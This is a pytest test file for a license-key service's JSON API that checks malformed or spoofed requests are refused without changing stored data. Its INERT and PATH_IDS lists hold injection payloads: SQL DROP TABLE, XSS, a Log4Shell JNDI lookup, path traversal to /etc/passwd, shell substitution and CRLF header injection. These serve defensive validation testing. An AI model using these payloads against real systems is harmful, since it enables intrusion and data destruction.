import json
from collections.abc import AsyncIterator, Iterator
from dataclasses import replace
from itertools import chain, count
from typing import Any, Final

import pytest

from keyservice.services import Services
from tests.api.bad_members import MEMBERS, SERVER_ONLY
from tests.api.broken_json import (
    CONTENT_TYPES,
    HARMLESS_CONTENT_TYPES,
    NOT_AN_OBJECT,
    NOT_JSON,
    in_chunks,
    too_large,
)
from tests.api.json_entrances import HELD_CLAIM, NAMES, SOLD_CLAIM, Entrance, Expected, entrances, template_id
from tests.api.premises import Premises, bearer, opened_premises, stored_rows
from tests.api.raw_http import PLANTED, request
from tests.fulfillment.feeds import cancelled, read_page
from tests.fulfillment.pipeline import Pipeline

Sent = tuple[str, bytes, Expected]
PROBLEMS: Final = (
    *("pool", "changed pool", "template", "product", "publisher", "search"),
    *("acknowledgement", "claim", "longer hold", "revocation", "key search", "search by ending"),
    *("package", "changed package"),
)
MISSING: Final = "01a2011f-fb7c-7035-9638-d0f8c3502bf4"
_numbers: Final = count(1)


@pytest.fixture(scope="module")
async def premises(services: Services) -> AsyncIterator[Premises]:
    async with opened_premises(services) as opened:
        await opened.own.load([f"JSON-{number}" for number in range(500)])
        await cancelled(opened.own, "dead", quantity=2)
        assert (await read_page(opened.own)).last_sequence == 2
        pipeline = Pipeline(opened.own, await services.gatekeeper.identify(opened.pipeline))
        await pipeline.claim(HELD_CLAIM, hold_seconds=3_600)
        await pipeline.claim(SOLD_CLAIM)
        yield opened
        for entrance in entrances(opened).values():
            await _take(opened, entrance)


async def _take(premises: Premises, entrance: Entrance, **options: Any) -> dict[str, Any]:
    """A good request is served as ever. An order is there to be cancelled afterwards."""
    answer = await premises.served.send(entrance.raw(json.dumps(entrance.body).encode(), **options))
    assert answer.status == entrance.created, f"{entrance.name}: {answer}"
    taken: dict[str, Any] = json.loads(answer.body)
    assert taken.get("responseCode", 0) == 0, f"{entrance.name}: {answer}"
    return taken


async def _refuse_all(premises: Premises, entrance: Entrance, sent: Iterator[Sent]) -> None:
    """Every row is refused as it must be, repeats nothing, and leaves every row of every table as it was."""
    faults: list[str] = []
    before = await stored_rows(premises.services.database)
    for name, raw, expected in sent:
        answer = await premises.served.send(raw)
        faults += [f"{name}: {fault}" for fault in entrance.faults(answer, expected)]
        after = await stored_rows(premises.services.database)
        if after != before:
            faults.append(f"{name}: changed {[table for table in after if after[table] != before[table]]}")
            before = after
    assert not faults, f"{entrance.name}: {len(faults)} faults\n" + "\n".join(faults)


@pytest.mark.parametrize("name", NAMES)
async def test_the_body_that_the_others_are_spoilt_from_is_taken(premises: Premises, name: str) -> None:
    made = entrances(premises)
    if name == "cancel":
        await _take(premises, made["order"])
    await _take(premises, made[name])
    for content_type in HARMLESS_CONTENT_TYPES if name in ("stock", "changed pool") else ():
        await _take(premises, made[name], content_type=content_type)


@pytest.mark.parametrize("name", NAMES)
async def test_what_is_no_json_is_refused_and_changes_nothing(premises: Premises, name: str) -> None:
    entrance = entrances(premises)[name]
    text = json.dumps(entrance.body)

    def sent() -> Iterator[Sent]:
        for row, spoil in NOT_JSON.items():
            body = spoil(text)
            yield row, entrance.raw(body), 413 if len(body) > entrance.bytes_max else 400
            yield f"{row}, in chunks", in_chunks(entrance.raw(body)), 413 if len(body) > entrance.bytes_max else 400

    await _refuse_all(premises, entrance, sent())


@pytest.mark.parametrize("name", NAMES)
async def test_json_that_is_no_object_is_refused_and_changes_nothing(premises: Premises, name: str) -> None:
    entrance = entrances(premises)[name]
    text = json.dumps(entrance.body)
    # An empty change changes nothing and is none of the refusals.
    rows = {row: spoil for row, spoil in NOT_AN_OBJECT.items() if name != "changed pool" or spoil(text) != b"{}"}
    await _refuse_all(
        premises, entrance, ((row, entrance.raw(spoil(text)), entrance.not_an_object) for row, spoil in rows.items())
    )


@pytest.mark.parametrize("name", NAMES)
async def test_a_body_that_is_too_large_or_not_said_to_be_json_is_refused_and_changes_nothing(
    premises: Premises, name: str
) -> None:
    entrance = entrances(premises)[name]
    body = json.dumps(entrance.body).encode()
    large = entrance.raw(too_large(body.decode()))
    rows: Iterator[Sent] = (
        (row, entrance.raw(body, content_type=lines), status) for row, (lines, status) in CONTENT_TYPES.items()
    )
    sizes: list[Sent] = [("a byte too many", large, 413), ("a byte too many in chunks", in_chunks(large), 413)]
    await _refuse_all(premises, entrance, chain(rows, sizes))


@pytest.mark.parametrize("name", NAMES)
async def test_a_value_that_its_member_cannot_have_is_refused_and_changes_nothing(
    premises: Premises, name: str
) -> None:
    entrance = entrances(premises)[name]

    def sent() -> Iterator[Sent]:
        for member in MEMBERS[name]:
            for row, fragment in member.junk.items():
                raw = entrance.raw(entrance.spoilt(member.pointer, fragment).encode())
                yield f"{member.pointer} = {row}", raw, _expected(entrance, member.expected, raw)

    await _refuse_all(premises, entrance, sent())


def _expected(entrance: Entrance, expected: Expected, raw: bytes) -> Expected:
    return 413 if len(raw.partition(b"\r\n\r\n")[2]) > entrance.bytes_max else expected


@pytest.mark.parametrize("name", PROBLEMS)
async def test_members_that_nobody_knows_and_those_that_only_the_service_writes_are_refused(
    premises: Premises, name: str
) -> None:
    entrance = entrances(premises)[name]
    text = json.dumps(entrance.body)
    sent = (
        (f"{member} = {value}", entrance.raw(f"{{{json.dumps(member)}:{value},{text[1:]}".encode()), 422)
        for member, value in SERVER_ONLY.items()
        if member not in entrance.body
    )
    await _refuse_all(premises, entrance, sent)


async def test_members_that_the_reference_does_not_name_are_passed_over_and_never_kept(premises: Premises) -> None:
    """Clients of the reference send more than its documents say; see document 003."""
    made = entrances(premises)
    strange = {name: json.loads(value) for name, value in SERVER_ONLY.items()}
    for name in ("stock", "order"):
        entrance = made[name]
        answer = await premises.served.send(entrance.raw(json.dumps({**strange, **entrance.body}).encode()))
        assert (answer.status, PLANTED in str(answer)) == (entrance.created, False), f"{name}: {answer}"
    async with premises.services.database.transaction() as connection:
        [order] = await connection.fetch(
            "SELECT o.is_test, o.status, o.db_version, o.document::text || l.document::text AS documents"
            "  FROM orders o JOIN line_items l USING (order_id) WHERE partner_order_number = $1",
            made["order"].body["partnerOrderNumber"],
        )
    assert (order["is_test"], order["status"], order["db_version"]) == (False, "COMPLETED", 1)
    assert not [member for member in strange if f'"{member}"' in order["documents"]]
    cancel = made["cancel"]
    answer = await premises.served.send(cancel.raw(json.dumps({**strange, **cancel.body}).encode()))
    assert json.loads(answer.body)["responseCode"] == 0


# Texts that mean something to a spreadsheet, a browser, a shell, a database or a template, and nothing to this service.
INERT: Final = (
    *('=HYPERLINK("http://x.test")', "=1+1", "+1", "-1+1", "@SUM(A1)", "<script>alert(1)</script>", "'; DROP TABLE pools; --"),
    *("{{7*7}}", "${jndi:ldap://x.test/a}", "../../etc/passwd", "%s%n%x", "$(id)", "`id`", "\\u0000", "\\x00", "%00", "C:\\x"),
    *("true", "null", "NULL", "0", "1e999", "--", "/*", "]]>", "&lt;", "\u0410dmin", "\uff21dmin", "e\u0301", "\U0001f511"),
)  # fmt: skip


async def test_texts_that_mean_something_elsewhere_are_kept_to_the_letter(premises: Premises) -> None:
    for text in INERT:
        made = entrances(premises)
        for name in ("pool", "template", "product"):
            entrance = made[name]
            answer = await premises.served.send(entrance.raw(json.dumps({**entrance.body, "name": text}).encode()))
            assert (answer.status, json.loads(answer.body)["name"]) == (201, text), f"{name} {text}"
    kept = {}
    for things in ("pools", "templates", "products"):
        answer = await premises.served.get(f"/publisher/{things}?limit=500", bearer(premises.publisher))
        kept[things] = [thing["name"] for thing in json.loads(answer.body)[things]]
    for things, names in kept.items():
        assert [name for name in names if name in INERT] == list(INERT), things


async def test_what_belongs_to_another_publisher_is_refused_in_the_words_for_what_does_not_exist(
    premises: Premises,
) -> None:
    own, foreign = premises.own.pool_id, premises.foreign.pool_id
    batch_id = await _batch_id(premises)
    made = entrances(premises)

    def plan(*pools: object) -> str:
        return json.dumps({"steps": [{"source": "pool", "pool": str(pool)} for pool in pools]})

    groups = [
        ("template", "/source_plan", [plan(one) for one in (foreign, MISSING, batch_id, template_id(premises))]),
        ("template", "/source_plan", [plan(own, one) for one in (foreign, MISSING, batch_id, template_id(premises))]),
        (
            "product",
            "/template_id",
            [f'"{one}"' for one in (template_id(premises, foreign=True), MISSING, own, batch_id)],
        ),
    ]
    for name, pointer, fragments in groups:
        entrance = made[name]
        before = await stored_rows(premises.services.database)
        answers = []
        for fragment in fragments:
            raw = entrance.raw(
                entrance.spoilt(pointer, fragment).encode(), "X-Request-Id: 0123456789abcdef0123456789abcdef"
            )
            answers.append(await premises.served.send(raw))
        assert [answer.status for answer in answers] == [422] * 4, name
        assert len({answer.body for answer in answers}) == 1, answers
        assert await stored_rows(premises.services.database) == before


async def test_an_id_is_taken_in_one_spelling_with_capitals_or_without(premises: Premises) -> None:
    ids = {
        ("template", "/source_plan/steps/0/pool"): str(premises.own.pool_id),
        ("product", "/template_id"): template_id(premises),
    }
    for (name, pointer), one in ids.items():
        entrance = entrances(premises)[name]
        spellings = (
            f"{{{one}}}",
            f"urn:uuid:{one}",
            one.replace("-", ""),
            f" {one}",
            f"{one}\n",
            f"({one})",
            f"{one}\u200b",
        )
        sent = ((text, entrance.raw(entrance.spoilt(pointer, json.dumps(text)).encode()), 422) for text in spellings)
        await _refuse_all(premises, entrance, sent)
        answer = await premises.served.send(entrance.raw(entrance.spoilt(pointer, json.dumps(one.upper())).encode()))
        assert answer.status == 201, answer


async def test_a_pool_named_twice_and_a_name_that_is_taken_are_told_and_change_nothing(premises: Premises) -> None:
    taken, made = entrances(premises), entrances(premises)
    for name in ("pool", "template", "product", "publisher"):
        await _take(premises, taken[name])
    step = {"source": "pool", "pool": str(premises.own.pool_id)}
    capital = {**step, "pool": step["pool"].upper()}
    rows: list[tuple[str, str, str, int]] = [
        ("template", "/source_plan", json.dumps({"steps": [step, step]}), 422),
        ("template", "/source_plan", json.dumps({"steps": [step, capital]}), 422),
        *(
            (name, "/name", json.dumps(taken["pool"].body["name"]), 409)
            for name in ("pool", "changed pool", "template")
        ),
        ("product", "/product_ref", json.dumps(taken["product"].body["product_ref"]), 409),
        ("publisher", "/handle", json.dumps(taken["publisher"].body["handle"]), 409),
    ]
    for name, pointer, fragment, status in rows:
        entrance = made[name]
        raw = entrance.raw(entrance.spoilt(pointer, fragment).encode())
        await _refuse_all(premises, entrance, iter([(fragment, raw, status)]))


async def test_an_order_of_another_reseller_cannot_be_cancelled_and_a_dead_one_not_again(premises: Premises) -> None:
    made = entrances(premises)
    await _take(premises, made["order"])
    cancel = made["cancel"]
    number = cancel.body["partnerOrderNumber"]
    foreign = replace(cancel, credential=f"secret: {premises.foreign_reseller}")
    before = await stored_rows(premises.services.database)
    answer = await premises.served.send(foreign.raw(json.dumps(cancel.body).encode()))
    assert (answer.status, json.loads(answer.body)["responseCode"]) == (404, 1010)
    assert await stored_rows(premises.services.database) == before
    await _take(premises, cancel)
    before = await stored_rows(premises.services.database)
    again = await premises.served.send(cancel.raw(json.dumps(cancel.body).encode()))
    assert (again.status, json.loads(again.body)["responseCode"], number in str(again)) == (200, 1011, True)
    assert await stored_rows(premises.services.database) == before


async def test_amounts_are_kept_to_the_last_digit(premises: Premises) -> None:
    entrance = entrances(premises)["order"]
    body = entrance.spoilt("/orderLines/0/amountTotal", "0.1481").replace(
        '"amountDutyFree": 10.0', '"amountDutyFree": 1.234e-1'
    )
    answer = await premises.served.send(entrance.raw(body.encode()))
    assert (answer.status, json.loads(answer.body)["responseCode"]) == (201, 0), answer
    async with premises.services.database.transaction() as connection:
        [[total, document]] = await connection.fetch(
            "SELECT o.total_amount::text, l.document::text FROM orders o JOIN line_items l USING (order_id)"
            " WHERE partner_order_number = $1",
            entrance.body["partnerOrderNumber"],
        )
    assert (total, json.loads(document)["amountDutyFree"]) == ("0.1481", "0.1234")


# What stands between two slashes of a path, and the status that answers it.
PATH_IDS: Final[dict[str, int]] = {
    "": 404,
    ".": 404,
    "..": 404,
    "%2e": 404,
    "%2e%2e": 404,
    "..%2f..%2fadmin%2fpublishers": 404,
    "%2e%2e%2f%2e%2e": 404,
    "..;": 404,
    "0": 404,
    "-1": 404,
    "null": 404,
    "*": 404,
    "main": 404,
    PLANTED: 404,
    PLANTED * 290: 404,
    "%27%20OR%201=1%20--": 404,
    "1;%20DROP%20TABLE%20pools": 404,
    "%7b{id}%7d": 404,
    "urn:uuid:{id}": 404,
    "{bare}": 404,
    "{id}%0a": 404,
    "{id}%20": 404,
    "{id}%0d%0aX-A:%20b": 404,
    "{id}/": 404,
    "{id}%2f": 404,
    "{id},{id}": 404,
    "%ef%bc%90{id}": 404,
    "%ff": 404,
    "%ed%a0%80": 404,
    "%c0%af": 404,
    "%zz": 404,
    "{id}%00": 400,
    "%00": 400,
    "{missing}": 404,
    "{template}": 404,
    "{foreign}": 404,
    "{batch}": 404,
}


@pytest.mark.parametrize(("method", "path"), [("GET", "/publisher/pools/@"), ("PATCH", "/publisher/pools/@"),
                                              ("GET", "/publisher/pools/@/batches"), ("GET", "/publisher/batches/@"),
                                              ("POST", "/publisher/batches/@/release"), ("POST", "/publisher/batches/@/hold"),
                                              ("POST", "/publisher/batches/@/withdraw"), ("GET", "/publisher/imports/@"),
                                              ("GET", "/publisher/imports/@/refused-rows"), ("DELETE", "/publisher/imports/@"),
                                              ("GET", "/fulfillment/purchases/@")])  # fmt: skip
async def test_an_id_that_is_none_or_that_of_something_else_names_nothing(
    premises: Premises, method: str, path: str
) -> None:
    is_purchase = path.startswith("/fulfillment")
    bought = await premises.own.buy(f"id-{next(_numbers)}")
    own_id = str(
        bought.order_id if is_purchase else await _batch_id(premises) if "pools" not in path else premises.own.pool_id
    )
    names = {
        "{id}": own_id,
        "{bare}": own_id.replace("-", ""),
        "{missing}": MISSING,
        "{template}": template_id(premises),
        "{foreign}": str(premises.foreign.pool_id),
        "{batch}": str(premises.own.pool_id),
    }
    if "pools" in path:
        names["{batch}"] = await _batch_id(premises)
    token = premises.own.reseller_token if is_purchase else premises.publisher
    entrance = Entrance("id", method, "", bearer(token), {})
    before = await stored_rows(premises.services.database)
    faults = []
    for row, status in PATH_IDS.items():
        target = path.replace("@", row)
        for name, value in names.items():
            target = target.replace(name, value)
        raw = request(f"{method} {target} HTTP/1.1", entrance.credential, "Content-Type: application/json", body=b"{}")
        answer = await premises.served.send(raw)
        if not (row in ("", ".") and answer.status == 405):  # it is the path of the list then
            faults += [f"{target[:120]}: {fault}" for fault in entrance.faults(answer, status)]
    assert not faults, "\n".join(faults)
    assert await stored_rows(premises.services.database) == before
    answer = await premises.served.send(
        request(
            f"{method} {path.replace('@', own_id.upper())} HTTP/1.1",
            entrance.credential,
            "Content-Type: application/json",
            body=b"{}",
        )
    )
    assert answer.status in (200, 409), "the id itself, in capitals, is found"


async def _batch_id(premises: Premises) -> str:
    """A held batch of one key."""
    segment_id = await premises.own.load([f"HELD-{next(_numbers)}"], state="held")
    async with premises.services.database.transaction() as connection:
        return str(await connection.fetchval("SELECT batch_id FROM segments WHERE segment_id = $1", segment_id))
